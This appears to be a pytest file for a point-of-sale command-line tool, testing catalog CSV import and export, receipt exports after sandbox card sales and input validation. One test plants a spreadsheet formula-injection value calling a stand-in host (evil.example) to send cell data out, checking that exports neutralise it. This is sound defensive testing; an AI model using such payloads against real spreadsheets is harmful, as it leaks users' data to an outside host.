"""`pos` on the command line against a real data folder: in the test's process through the CLI's own
main() (tests/helpers/cli.py), and as a separate process where that is the point (the round trip)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from pos.paths import resource_path
from tests.helpers.cli import run_pos, run_process

ROOT = Path(__file__).resolve().parents[2]


def pos(*args, env=None, stdin=None):
    """`pos ARGS…` run in this process (tests/helpers/cli.py): its exit code, output and files."""
    return run_pos(args, env=env, stdin=stdin)


def test_catalog_import_and_export_round_trip(tmp_path):
    """As its own processes (`python -m pos`): the entry point itself stays covered."""
    data = tmp_path / "data"
    done = run_process(["--data-dir", data, "catalog", "import", resource_path("demo_catalog.csv")])
    assert done.returncode == 0 and "Imported 40 products" in done.stdout
    out = tmp_path / "out.csv"
    assert run_process(["--data-dir", data, "catalog", "export", out]).returncode == 0
    original = {r["sku"]: r for r in csv.DictReader(open(resource_path("demo_catalog.csv"), encoding="utf-8"))}
    exported = {r["sku"]: r for r in csv.DictReader(open(out, encoding="utf-8"))}
    assert exported == original
    stdout = run_process(["--data-dir", data, "catalog", "export", "-"]).stdout
    assert stdout.splitlines()[0] == "sku,barcode,name,category,price,tax_rate,colour,favourite"


@pytest.mark.parametrize(
    "row,reason",
    [
        ("X-1,123,Thing,Misc,abc,9", "line 3: price"),
        ("X-1,123,Thing,Misc,1.234,9", "line 3: price"),
        ("X-1,123,Thing,Misc,1e1,9", "line 3: price: '1e1' is not an amount"),  # issue 24: read as 10.00
        ("X-1,123,Thing,Misc,1_000,9", "line 3: price: '1_000' is not an amount"),
        ("X-1,123,Thing,Misc,1.20,1e1", "line 3: '1e1' is not a tax rate"),  # the same rule for rates: read as 10 %
        ("X-1,12a,Thing,Misc,1.20,9", "line 3: barcode"),
        ("X-1,123,,Misc,1.20,9", "line 3: name is empty"),
        ("X-1,123,Thing,Misc,1.20,150", "line 3: tax rate"),
        ("GOOD-1,999,Dup,Misc,1.20,9", "line 3: sku GOOD-1 already on line 2"),
        # The tile's look (issue 28): a colour is #rrggbb, a favourite's place a whole number.
        ("X-1,123,Thing,Misc,1.20,9,red,", "line 3: colour 'red' must be written #rrggbb"),
        ("X-1,123,Thing,Misc,1.20,9,#12345,", "line 3: colour '#12345' must be written #rrggbb"),
        ("X-1,123,Thing,Misc,1.20,9,,0", "line 3: favourite '0' must be a whole number from 1"),
        ("X-1,123,Thing,Misc,1.20,9,,first", "line 3: favourite 'first' must be a whole number"),
    ],
)
def test_bad_row_aborts_whole_import(tmp_path, row, reason):
    data = tmp_path / "data"
    bad = tmp_path / "bad.csv"
    tile = row.count(",") == 7  # the row has the tile's columns: the header names them
    header = "sku,barcode,name,category,price,tax_rate" + (",colour,favourite" if tile else "")
    bad.write_text(f"{header}\nGOOD-1,111,Good,Misc,2.00,9{',,' if tile else ''}\n" + row + "\n")
    done = pos("--data-dir", str(data), "catalog", "import", str(bad))
    assert done.returncode == 1
    assert reason in done.stderr and "Nothing was imported" in done.stderr
    listing = pos("--data-dir", str(data), "catalog", "export", "-").stdout
    assert listing.strip().splitlines() == ["sku,barcode,name,category,price,tax_rate,colour,favourite"]


def test_missing_column_and_missing_file(tmp_path):
    data = tmp_path / "data"
    bad = tmp_path / "bad.csv"
    bad.write_text("sku,name,price\nA,B,1.00\n")
    done = pos("--data-dir", str(data), "catalog", "import", str(bad))
    assert done.returncode == 1 and "missing column" in done.stderr
    assert pos("--data-dir", str(data), "catalog", "import", str(tmp_path / "nope.csv")).returncode == 2


def _sell(data, sandbox, api_key, count: int) -> None:
    """`count` card sales through the app's own wiring (tests/helpers/sell.py), in its own process."""
    sold = subprocess.run(
        [sys.executable, "-m", "tests.helpers.sell", str(data), sandbox.url, str(count)],
        capture_output=True,
        text=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT), POS_STRIPE_API_KEY=api_key),
        cwd=ROOT,
        timeout=120,
    )
    assert sold.returncode == 0, sold.stderr


def test_receipts_export_after_sales(tmp_path, sandbox, api_key):
    data = tmp_path / "data"
    env = {"POS_STRIPE_API_KEY": api_key}
    _sell(data, sandbox, api_key, 3)
    as_csv = pos("--data-dir", str(data), "receipts", "export", env=env)
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    assert [r["receipt_no"] for r in rows] == ["1", "2", "3"]
    assert list(rows[0]) == [
        "receipt_no",
        "created_at",
        "currency",
        "total_minor",
        "tax_minor",
        "payment_intent",
        "status",
        "card_brand",
        "card_last4",
        "refunded_minor",
        "till_id",
        "discount_minor",  # appended: the columns before keep their places
        "cash_minor",
        "card_minor",
        "change_minor",
        "rounding_minor",
        "cashier",  # who sold it ("" when the shop has no cashiers)
        "gift_card_minor",  # issue 24: the kinds not stored on the receipt, from its tenders
        "store_credit_minor",
    ]
    assert {r["gift_card_minor"] for r in rows} == {r["store_credit_minor"] for r in rows} == {"0"}
    assert {r["till_id"] for r in rows} == {"T1"}
    assert {r["discount_minor"] for r in rows} == {"0"}
    assert rows[0]["total_minor"] == "450" and rows[1]["total_minor"] == "900"
    assert rows[0]["card_last4"] == "4242" and rows[0]["refunded_minor"] == "0"
    out = tmp_path / "r.json"
    assert pos("--data-dir", str(data), "receipts", "export", "--format", "json", "--output", str(out)).returncode == 0
    records = json.loads(out.read_text())
    assert records[2]["total_minor"] == 1350 and records[2]["payment_intent"].startswith("pi_")
    assert records[2]["card_minor"] == 1350 and records[2]["cash_minor"] == 0
    [tender] = records[2]["tenders"]
    assert tender == {
        "type": "card",
        "amount_minor": 1350,
        "payment_intent": records[2]["payment_intent"],
        "card_last4": "4242",
    }


def test_csv_exports_quote_a_till_id_a_spreadsheet_would_run(tmp_path, sandbox, api_key):
    """Hostile-tester finding: the catalog export quoted formula cells, but `pos report --format csv`
    and `pos receipts export` wrote a till id (settings, or another till's through the shop) such as
    =HYPERLINK(…) as it was: the accountant's spreadsheet runs it. Amounts stay numbers."""
    data = tmp_path / "data"
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"T1")'
    assert pos("--data-dir", str(data), "settings", "set", "till_id", hostile).returncode == 0
    _sell(data, sandbox, api_key, 1)
    [row] = list(csv.DictReader(io.StringIO(pos("--data-dir", str(data), "receipts", "export").stdout)))
    assert row["till_id"] == "'" + hostile and row["total_minor"] == "450"
    day = row["created_at"][:10]
    report = pos("--data-dir", str(data), "report", "--date", day, "--format", "csv")
    cells = {(r["section"], r["item"]): r["value"] for r in csv.DictReader(io.StringIO(report.stdout))}
    assert cells[("report", "till_id")] == "'" + hostile
    assert cells[("totals", "gross")] == "4.50"
    assert not [v for v in cells.values() if v.startswith(("=", "+", "@"))]


@pytest.mark.parametrize("command", [("audit", "export"), ("stock", "movements")])
def test_a_range_that_ends_before_it_starts_is_refused_in_one_line(tmp_path, command):
    """Issue 24/28 leftover: `--from 2026-12-06 --to 2026-12-01` selected nothing and exited 0, which
    reads as "nothing happened" to whoever swapped the two days; now one line and exit 2 (the CLI's
    bad-input rule). The same range the right way round still exits 0."""
    data = str(tmp_path / "data")
    done = pos("--data-dir", data, *command, "--from", "2026-12-06", "--to", "2026-12-01")
    assert done.returncode == 2, done.stdout
    assert done.stderr == "error: --from 2026-12-06 is after --to 2026-12-01: the first day comes first\n"
    assert done.stdout == ""
    assert pos("--data-dir", data, *command, "--from", "2026-12-01", "--to", "2026-12-06").returncode == 0


@pytest.mark.parametrize(
    "command",
    [
        ("report", "--date", "0001-01-01"),
        ("report", "--date", "9999-12-31"),
        ("audit", "export", "--from", "0001-01-01"),
        ("audit", "export", "--to", "9999-12-31"),
    ],
)
def test_a_date_at_the_calendars_edge_is_refused_in_one_line(tmp_path, command):
    """Hostile-tester finding: the day's bounds in the store's time zone fell in year 0 or 10000 and
    the command said only "failed unexpectedly (ValueError)"."""
    done = pos("--data-dir", str(tmp_path / "data"), *command)
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("error: ") and "take" in done.stderr and done.stderr.count("\n") == 1
